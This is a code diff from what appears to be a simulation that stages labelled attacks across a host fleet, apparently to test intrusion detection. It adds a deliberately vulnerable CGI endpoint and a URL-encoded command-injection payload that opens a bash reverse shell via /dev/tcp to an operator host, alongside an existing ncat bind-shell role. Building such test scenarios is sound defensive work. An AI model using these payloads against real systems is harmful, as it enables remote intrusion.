@@ -102,7 +102,11 @@ PYTHON3 = f"{SYSTEM}/usr/bin/python3"
 # Where the issue-9 scenarios and the benign servers sit (host index; clamped to the fleet): fixed, so ground truth
 # is reproducible. The web server's clients are every other host.
 WEB_SERVER_AT, SSHD_AT, DEV_SERVER_AT, DEV_PEER_AT, ADMIN_AT, DB_CLIENT_AT = 0, 5, 3, 4, 1, 7
-BIND_SHELL_AT = 5
+BIND_SHELL_AT, WEB_SHELL_AT = 5, 7
+VULNERABLE_CGI = "/cgi-bin/status.cgi"
+# What the operator sends: a command injection in the CGI's host parameter (URL-encoded, as curl would send it).
+EXPLOIT = (f"{VULNERABLE_CGI}?host=127.0.0.1%3Bbash%20-c%20%27bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F{plan.OPERATOR}"
+           f"%2F{plan.WEB_SHELL_PORT}%200%3E%261%27")
 
 
 def _ip(index: int, hosts: int) -> str:
@@ -124,8 +128,10 @@ def depth_scenarios(hosts: int) -> dict[int, Role]:
         BIND_SHELL_AT: Role("bind_shell", "bindshell.py", "/tmp/.n/ncat", f"/tmp/.n/ncat -lkp {bind_port} -e /bin/bash",
                             ("--port", str(bind_port)), "bind_shell", ("T1059", "T1571"),
                             (Destination(local_port=bind_port),), related=(BASH,)),
-        7: Role("web_shell", "webserver.py", f"{SYSTEM}/usr/sbin/apache2", f"{SYSTEM}/usr/sbin/apache2 -k start",
-                ("--port", "80", "--user", "www-data", "--shell", f"{plan.OPERATOR}:{plan.WEB_SHELL_PORT}"),
+        WEB_SHELL_AT: Role(
+                "web_shell", "webserver.py", f"{SYSTEM}/usr/sbin/apache2", f"{SYSTEM}/usr/sbin/apache2 -k start",
+                ("--port", "80", "--user", "www-data", "--shell", f"{plan.OPERATOR}:{plan.WEB_SHELL_PORT}",
+                 "--vulnerable", VULNERABLE_CGI),
                 "web_shell", ("T1059", "T1505.003"), (Destination(plan.OPERATOR, plan.WEB_SHELL_PORT),),
                 process_path=BASH, related=(f"{SYSTEM}/usr/sbin/apache2",)),
         1: Role("lolbin_lateral", "backdoor.py", f"{SYSTEM}/opt/microsoft/powershell/7/pwsh",
@@ -200,7 +206,9 @@ class Operator:
 
 def operators(hosts: int) -> tuple[Operator, ...]:
     return (Operator("operator-bind", "operator.py",
-                     ("--target", f"{_ip(BIND_SHELL_AT, hosts)}:{plan.BIND_SHELL_PORT}", "--source", plan.OPERATOR)),)
+                     ("--target", f"{_ip(BIND_SHELL_AT, hosts)}:{plan.BIND_SHELL_PORT}", "--source", plan.OPERATOR)),
+            Operator("operator-exploit", "operator.py",
+                     ("--target", f"{_ip(WEB_SHELL_AT, hosts)}:80", "--source", plan.OPERATOR, "--exploit", EXPLOIT)))
 
 
 def role_binaries(hosts: int = 10) -> list[str]:
